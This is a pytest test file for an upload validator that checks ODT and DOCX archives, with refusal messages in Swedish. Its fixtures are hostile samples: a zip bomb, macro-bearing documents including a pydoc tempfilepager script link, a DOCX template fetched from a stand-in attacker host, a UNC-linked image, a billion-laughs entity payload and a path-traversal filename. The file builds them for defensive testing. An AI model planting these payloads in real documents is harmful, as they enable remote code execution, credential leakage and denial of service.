"""Issue 10 items 10 and 11: every zip container is checked against one set of limits before a
member is read and read with a bound; ODT with macros and DOCX that reach outside the file are
refused; a document is named after its detected type."""

from __future__ import annotations

import io
import zipfile

import pytest

from lis.core import uploads
from lis.core.uploads import RefusedDocument, detect_document_type, document_name

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
ODF = "urn:oasis:names:tc:opendocument:xmlns"


def _zip(members: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _manifest(*paths: str) -> str:
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="text/xml"/>' for path in paths
    )
    return f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{MANIFEST}">{entries}</manifest:manifest>'


def _content(body: str) -> str:
    return (
        f'<office:document-content xmlns:office="{ODF}:office:1.0" xmlns:script="{ODF}:script:1.0"'
        f' xmlns:text="{ODF}:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:document-content>'
    )


def _odt(**members: str | bytes) -> bytes:
    return _zip(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": _manifest("/", "content.xml"),
            "content.xml": _content(""),
            **members,
        }
    )


def _rels(*relationships: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{"".join(relationships)}</Relationships>'


def _docx(**members: str | bytes) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": _rels('<Relationship Id="rId1" Type="officeDocument" Target="word/document.xml"/>'),
            "word/document.xml": "<w:document xmlns:w='urn:w'/>",
            "word/_rels/document.xml.rels": _rels('<Relationship Id="rId1" Type="styles" Target="styles.xml"/>'),
            **members,
        }
    )


@pytest.fixture
def never_inflate(monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("a member was inflated")

    monkeypatch.setattr(zipfile.ZipExtFile, "read", never)
    monkeypatch.setattr(zipfile.ZipExtFile, "read1", never)


def test_it_accepts_plain_documents():
    assert detect_document_type(_odt()) == "odt"
    assert detect_document_type(_docx()) == "docx"


def test_it_refuses_an_odt_whose_mimetype_inflates_to_400_mb_without_inflating_it(never_inflate):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("mimetype", "w") as member:
            for _megabyte in range(400):
                member.write(b"\0" * (1024 * 1024))
        archive.writestr("content.xml", "<office:document-content/>")
    assert len(buffer.getvalue()) < 500_000
    with pytest.raises(RefusedDocument, match="Filen packas upp till mer än 50,0\u00a0MB och läses inte in."):
        detect_document_type(buffer.getvalue())


def test_it_refuses_a_densely_packed_member_and_too_many_members_without_inflating_them(never_inflate):
    with pytest.raises(RefusedDocument, match="ovanligt hårt packad"):
        detect_document_type(_docx(**{"word/media/zeros.bin": b"\0" * (2 * 1024 * 1024)}))
    with pytest.raises(RefusedDocument, match="fler än 1\u00a0000 delar"):
        detect_document_type(_docx(**{f"word/media/{number}.png": b"" for number in range(1_000)}))


def test_it_reads_a_member_only_up_to_its_bound():
    with uploads.open_archive(_zip({"mimetype": b"x" * 200})) as archive:
        assert uploads.read_member(archive, "mimetype", 200) == b"x" * 200
        with pytest.raises(zipfile.BadZipFile):
            uploads.read_member(archive, "mimetype", 100)


def test_it_refuses_repeated_member_names_that_readers_would_disagree_on():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("MIMETYPE", "application/pdf")
    assert detect_document_type(buffer.getvalue()) == ""


@pytest.mark.parametrize(
    "odt",
    [
        _odt(**{"Basic/Standard/Module1.xml": "<script:module/>", "Basic/script-lc.xml": "<library/>"}),
        _odt(**{"META-INF/manifest.xml": _manifest("/", "content.xml", "Scripts/python/run.py")}),
        _odt(
            **{
                "content.xml": _content(
                    '<office:event-listeners><script:event-listener script:event-name="dom:load"/>'
                    "</office:event-listeners>"
                )
            }
        ),
        _odt(
            **{
                "content.xml": _content(
                    '<text:a xlink:href="vnd.sun.star.script:pydoc.py$tempfilepager?language=Python">x</text:a>'
                )
            }
        ),
    ],
    ids=["basic-library", "script-in-manifest", "event-listener", "macro-link"],
)
def test_it_refuses_an_odt_with_macros(odt):
    with pytest.raises(RefusedDocument, match="Dokumentet innehåller makron"):
        detect_document_type(odt)


@pytest.mark.parametrize(
    "docx",
    [
        _docx(
            **{
                "word/settings.xml": "<w:settings xmlns:w='urn:w' xmlns:r='urn:r'><w:attachedTemplate r:id='rId1'/>"
                "</w:settings>",
                "word/_rels/settings.xml.rels": _rels(
                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    'attachedTemplate" Target="http://angripare.example/mall.dotm" TargetMode="External"/>'
                ),
            }
        ),
        _docx(
            **{
                "word/_rels/document.xml.rels": _rels(
                    '<Relationship Id="rId9" Type="image" Target="\\\\server\\share\\bild.png" TargetMode="External"/>'
                )
            }
        ),
    ],
    ids=["attached-template", "linked-image"],
)
def test_it_refuses_a_docx_with_an_external_relationship(docx):
    with pytest.raises(RefusedDocument, match="Dokumentet hämtar innehåll utanför filen"):
        detect_document_type(docx)


@pytest.mark.parametrize(
    "docx",
    [
        _docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        _docx(
            **{
                "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType="application/'
                'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
    ],
    ids=["vba-project", "macro-enabled"],
)
def test_it_refuses_a_docx_with_macros(docx):
    with pytest.raises(RefusedDocument, match="Dokumentet innehåller makron"):
        detect_document_type(docx)


def test_it_parses_relationships_without_expanding_entities():
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        f'<Relationships xmlns="{RELS}"><Relationship Id="&b;" Target="x"/></Relationships>'
    )
    assert detect_document_type(_docx(**{"word/_rels/document.xml.rels": laughs})) == ""


@pytest.mark.parametrize(
    ("name", "kind", "shown"),
    [("x.docx", "pdf", "x.pdf"), ("Rutin v2.odt", "odt", "Rutin v2.odt"), ("../../a.b.exe", "docx", "a.b.docx")],
)
def test_it_names_a_document_after_its_detected_type(name, kind, shown):
    assert document_name(name, kind) == shown
